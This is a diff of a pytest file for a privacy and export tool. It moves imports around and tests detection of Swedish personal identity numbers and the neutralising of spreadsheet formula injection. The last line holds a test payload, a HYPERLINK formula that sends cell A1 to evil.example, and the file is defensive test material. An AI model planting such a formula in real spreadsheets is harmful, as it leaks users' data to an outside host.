@@ -8,21 +8,23 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from insightbank import insights, vocabulary
+from insightbank import vocabulary
 from insightbank.cli.main import cli
-from insightbank.db import Bank
-from insightbank.package_export import ExportOptions, PersonalDataError, export
-from insightbank.privacy import EMAIL, NAME, PHONE, PNR, NameList, Scanner, load_names, luhn_ok, redact
-from insightbank.records import InsightData, Quote
-from insightbank.spreadsheet_export import neutralise
+from insightbank.exchange.packages.export import ExportOptions, PersonalDataError, export
+from insightbank.exchange.privacy import EMAIL, NAME, PHONE, PNR, NameList, Scanner, load_names, luhn_ok, redact
+from insightbank.exchange.spreadsheets.export import neutralise
+from insightbank.insights import writes as insights
+from insightbank.insights.records import InsightData, Quote
+from insightbank.storage.engine import Bank
 
 
 def kinds(text: str, names: tuple[str, ...] = ()) -> list[str]:
     return [h.kind for h in Scanner(NameList(names)).scan(text)]
 
 
-@pytest.mark.parametrize("text", ["811218-9876", "19811218-9876", "198112189876", "8112189876", "20811218+9876",
-                                  "Han har pnr 811218-9876."])
+@pytest.mark.parametrize(
+    "text", ["811218-9876", "19811218-9876", "198112189876", "8112189876", "20811218+9876", "Han har pnr 811218-9876."]
+)
 def test_personal_identity_numbers_with_and_without_century(text) -> None:
     assert kinds(text) == [PNR]
 
@@ -63,8 +65,19 @@ def test_the_names_list_is_read_from_a_file(tmp_path) -> None:
 
 def _insight(bank: Bank, quote: str, statement: str = "Föräldrar vill ha stöd tidigt") -> None:
     with bank.transaction() as conn:
-        insights.insert(conn, insights.validate(vocabulary.load(conn), InsightData(
-            statement=statement, perspectives=["clients"], sensitivity="public", quotes=[Quote(quote, "förälder")])), "t")
+        insights.insert(
+            conn,
+            insights.validate(
+                vocabulary.load(conn),
+                InsightData(
+                    statement=statement,
+                    perspectives=["clients"],
+                    sensitivity="public",
+                    quotes=[Quote(quote, "förälder")],
+                ),
+            ),
+            "t",
+        )
 
 
 def test_a_personal_identity_number_in_a_quote_stops_the_export(bank, tmp_path) -> None:
@@ -91,7 +104,14 @@ def test_the_cli_stops_and_redacts(bank, tmp_path, runner) -> None:
 
 def test_neutralise() -> None:
     assert [neutralise(t) for t in ("=1+1", "+46", "-x", "@SUM(A1)", " =cmd", "ok", "")] == [
-        "'=1+1", "'+46", "'-x", "'@SUM(A1)", "' =cmd", "ok", ""]
+        "'=1+1",
+        "'+46",
+        "'-x",
+        "'@SUM(A1)",
+        "' =cmd",
+        "ok",
+        "",
+    ]
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
